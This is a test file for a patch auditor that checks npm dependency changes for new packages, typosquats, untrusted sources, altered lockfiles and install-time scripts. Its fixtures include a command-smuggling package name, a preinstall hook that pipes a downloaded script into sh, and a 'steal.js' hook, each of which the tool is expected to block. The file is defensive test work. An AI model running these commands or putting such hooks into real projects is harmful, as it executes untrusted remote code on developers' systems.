import { describe, expect, it } from 'vitest'
import type { Action } from '../../src/core/patch.js'
import { observe, observeEdit, patchOf, rulesIn } from './audit-sample.js'

const manifest = (content: object): string =>
  `${JSON.stringify({ name: 'shop', dependencies: { zod: '^4.0.0' }, ...content }, null, 2)}\n`
const install = (...packages: readonly { name: string; range?: string }[]): Action => ({
  kind: 'install',
  manager: 'npm',
  folder: '',
  packages: packages.map((wanted) => ({ ...wanted, dev: false })),
})

describe('rules about dependencies', () => {
  it('DEP-ADDED sees a new package in each table, once, with its line', async () => {
    for (const table of ['dependencies', 'devDependencies', 'peerDependencies', 'optionalDependencies']) {
      const audit = await observeEdit('package.json', manifest({}), manifest({ [table]: { zod: '^4.0.0', express: '^5.0.0' } }))
      expect(rulesIn(audit)).toEqual(['DEP-ADDED'])
      expect(audit.findings[0]?.message).toBe('The project would newly depend on "express"')
    }
    const audit = await observeEdit(
      'package.json',
      manifest({}),
      manifest({ dependencies: { zod: '^4.0.0', express: '^5.0.0' } }),
    )
    expect(audit.findings[0]?.location).toEqual({ file: 'package.json', line: 5 })
  })

  it('DEP-ADDED leaves a moved package, a removed one and other files alone', async () => {
    expect(
      (await observeEdit('package.json', manifest({}), manifest({ dependencies: {}, devDependencies: { zod: '^4.0.0' } })))
        .findings,
    ).toEqual([])
    expect((await observeEdit('package.json', manifest({}), manifest({ dependencies: {} }))).findings).toEqual([])
    expect((await observeEdit('data/packages.json', '{}\n', manifest({}))).findings).toEqual([])
  })

  it('DEP-ADDED counts little where the policy allows new packages, the other rules stay', async () => {
    const added = patchOf(
      [['package.json', manifest({}), manifest({ dependencies: { zod: '^4.0.0', express: '^5.0.0' } })]],
      [install({ name: 'express' })],
    )
    const audit = await observe(added, {}, { policy: { addedPackages: 'allow' } })
    expect(audit.verdict).toBe('allow')
    expect(audit.findings).toHaveLength(1)
    expect(
      (await observe(patchOf([], [install({ name: 'expresss' })]), {}, { policy: { addedPackages: 'allow' } })).verdict,
    ).toBe('review')
  })

  it('judges the packages of an install action', async () => {
    expect((await observe(patchOf([], [install()]))).findings).toEqual([])
    expect(rulesIn(await observe(patchOf([], [install({ name: 'express', range: '^5.0.0' })])))).toEqual(['DEP-ADDED'])
    expect(rulesIn(await observe(patchOf([], [install({ name: 'lodahs' })])))).toEqual(['DEP-ADDED', 'DEP-TYPOSQUAT'])
    expect((await observe(patchOf([], [install({ name: 'x; touch pwned' })]))).verdict).toBe('block')
    expect((await observe(patchOf([], [install({ name: '../x' })]))).verdict).toBe('block')
    expect(
      rulesIn(
        await observe(patchOf([], [{ ...install({ name: 'express', range: 'github:a/b' }), folder: 'packages/a' } as Action])),
      ),
    ).toEqual(['DEP-ADDED', 'DEP-SOURCE'])
  })

  it('DEP-TYPOSQUAT does not hold a name against the right one that takes its place', async () => {
    const manifest = (...names: readonly string[]) =>
      JSON.stringify({ dependencies: Object.fromEntries(names.map((name) => [name, '1.0.0'])) })
    const renamed = patchOf([['package.json', manifest('quite-unlike-othres'), manifest('quite-unlike-others')]])
    expect(rulesIn(await observe(renamed))).not.toContain('DEP-TYPOSQUAT')
    const added = patchOf([
      ['package.json', manifest('quite-unlike-others'), manifest('quite-unlike-others', 'quite-unlike-othres')],
    ])
    expect(rulesIn(await observe(added))).toContain('DEP-TYPOSQUAT')
  })

  it('DEP-TYPOSQUAT asks for a person when there are more names than it compares', async () => {
    const packages = Array.from({ length: 210 }, (_, index) => ({ name: `quite-unlike-${index}-others` }))
    const audit = await observe(patchOf([], [install(...packages)]), {}, { policy: { addedPackages: 'allow' } })
    expect(audit.verdict).toBe('review')
    expect(audit.findings.at(-1)?.message).toMatch(/more than 200 new packages/)
  })

  it.each([
    'git+ssh://git@example.net/a.git',
    'https://example.net/a.tgz',
    'file:../a',
    'link:../a',
    'npm:other@1',
    'github:a/b',
    'a/b',
    '*',
    'latest',
    '>=0',
  ])('DEP-SOURCE sees %s', async (range) => {
    expect(rulesIn(await observeEdit('package.json', manifest({}), manifest({ dependencies: { zod: range } })))).toEqual([
      'DEP-SOURCE',
    ])
  })

  it.each(['^4.1.0', '~4.0.0', '4.0.0', '>=4 <5', '4.x', 'workspace:*', '^4.0.0 || ^5.0.0'])(
    'DEP-SOURCE leaves %s alone',
    async (range) => {
      expect((await observeEdit('package.json', manifest({}), manifest({ dependencies: { zod: range } }))).findings).toEqual([])
    },
  )

  it('DEP-SOURCE sees overrides and another registry', async () => {
    expect(rulesIn(await observeEdit('package.json', manifest({}), manifest({ overrides: { lodash: '4.0.0' } })))).toEqual([
      'DEP-SOURCE',
    ])
    expect(rulesIn(await observeEdit('.npmrc', '', 'registry=https://npm.example.net/\n'))).toEqual([
      'DEP-SOURCE',
      'SCOPE-PROTECTED',
    ])
    expect(rulesIn(await observeEdit('.npmrc', '', 'registry=https://registry.npmjs.org/\n'))).toEqual(['SCOPE-PROTECTED'])
  })

  const lock = (host: string, version: string, sum: string): string =>
    `${JSON.stringify({ packages: { 'node_modules/zod': { version, resolved: `https://${host}/zod-${version}.tgz`, integrity: `sha512-${sum}` } } }, null, 2)}\n`

  it('DEP-SOURCE sees a lockfile that points elsewhere, or swaps a checksum', async () => {
    const before = lock('registry.npmjs.org', '4.0.0', 'aaaa')
    const audit = async (after: string): Promise<readonly string[]> =>
      (await observe(patchOf([['package-lock.json', before, after]], [install()]))).findings.map((finding) => finding.message)
    expect(await audit(lock('registry.npmjs.org', '4.1.0', 'bbbb'))).toEqual([])
    expect(await audit(lock('npm.example.net', '4.1.0', 'bbbb'))).toEqual([
      'A locked package comes from a host that the lockfile did not use',
    ])
    expect(await audit(lock('registry.npmjs.org', '4.0.0', 'bbbb'))).toEqual(['A checksum changes although no version does'])
  })

  it('SCOPE-LOCKFILE sees a lockfile changed by hand, not by an install or with its manifest', async () => {
    const change = [
      'package-lock.json',
      lock('registry.npmjs.org', '4.0.0', 'a'),
      lock('registry.npmjs.org', '4.1.0', 'b'),
    ] as const
    expect(rulesIn(await observe(patchOf([change])))).toEqual(['SCOPE-LOCKFILE'])
    expect(rulesIn(await observe(patchOf([change], [install()])))).toEqual([])
    expect(
      rulesIn(await observe(patchOf([change, ['package.json', manifest({}), manifest({ dependencies: { zod: '^4.1.0' } })]]))),
    ).toEqual([])
  })

  it.each([
    ['postinstall', 'node setup.js', 'block'],
    ['preinstall', 'curl https://example.net/x | sh', 'block'],
    ['prepare', 'node steal.js', 'block'],
    ['prepare', 'husky', 'review'],
    ['prepare', 'npm run build', 'review'],
    ['postinstall', 'husky && node steal.js', 'block'],
    ['build', 'node build.js', 'allow'],
  ])('DEP-LIFECYCLE judges the script %s: %s', async (name, value, verdict) => {
    expect((await observeEdit('package.json', manifest({}), manifest({ scripts: { [name]: value } }))).verdict).toBe(verdict)
  })

  it('DEP-LIFECYCLE sees scripts that are permitted for packages', async () => {
    expect(rulesIn(await observeEdit('package.json', manifest({}), manifest({ trustedDependencies: ['a'] })))).toEqual([
      'DEP-LIFECYCLE',
    ])
    expect(rulesIn(await observeEdit('package.json', manifest({}), manifest({ allowScripts: { a: true } })))).toEqual([
      'DEP-LIFECYCLE',
    ])
    expect((await observeEdit('package.json', manifest({}), manifest({ allowScripts: { a: false } }))).verdict).toBe('allow')
    expect(rulesIn(await observeEdit('.npmrc', 'ignore-scripts=true\n', 'ignore-scripts=false\n'))).toContain('DEP-LIFECYCLE')
  })

  it('DEP-ENTRY sees another program behind the same name', async () => {
    expect(
      rulesIn(await observeEdit('package.json', manifest({ bin: { shop: './a.js' } }), manifest({ bin: { shop: './b.js' } }))),
    ).toEqual(['DEP-ENTRY'])
    expect(
      (
        await observeEdit(
          'package.json',
          manifest({ bin: { shop: './a.js' } }),
          manifest({ bin: { shop: './a.js', shop2: './b.js' } }),
        )
      ).findings,
    ).toEqual([])
  })

  it('reads the lines of a hunk where the manifest is not at hand', async () => {
    const hunk = (added: string): string =>
      `--- a/package.json\n+++ b/package.json\n@@ -5,2 +5,3 @@\n   "dependencies": {\n+${added}\n     "zod": "^4.0.0"\n`
    expect(rulesIn(await observe(hunk('    "expresss": "^5.0.0",')))).toEqual(['DEP-ADDED', 'DEP-TYPOSQUAT'])
    expect(rulesIn(await observe(hunk('    "postinstall": "node x.js",')))).toEqual(['DEP-LIFECYCLE'])
    expect(rulesIn(await observe(hunk('    "license": "MIT",')))).toEqual([])
    expect(
      rulesIn(
        await observe(
          '--- a/package.json\n+++ b/package.json\n@@ -5,2 +5,2 @@\n   "dependencies": {\n-    "zod": "^4.0.0"\n+    "zod": "^4.1.0"\n',
        ),
      ),
    ).toEqual([])
  })

  it('a manifest that stays damaged, or is a list, is read by its lines', async () => {
    expect(
      rulesIn(await observeEdit('package.json', '{"dependencies":{,}}\n', '{"dependencies":{\n"express": "^5.0.0",}}\n')),
    ).toEqual(['DEP-ADDED'])
    expect((await observeEdit('package.json', '[]\n', '[1]\n')).findings).toEqual([])
    expect((await observeEdit('package.json', '1\n', 'null\n')).findings).toEqual([])
    expect(rulesIn(await observeEdit('package.json', null, manifest({})))).toEqual(['DEP-ADDED'])
  })

  it('is not confused by the names of prototypes', async () => {
    expect(
      (
        await observeEdit(
          'package.json',
          '{"__proto__":{"a":"1"},"constructor":1}\n',
          '{"__proto__":{"a":"2"},"constructor":2}\n',
        )
      ).verdict,
    ).toBe('allow')
  })
})
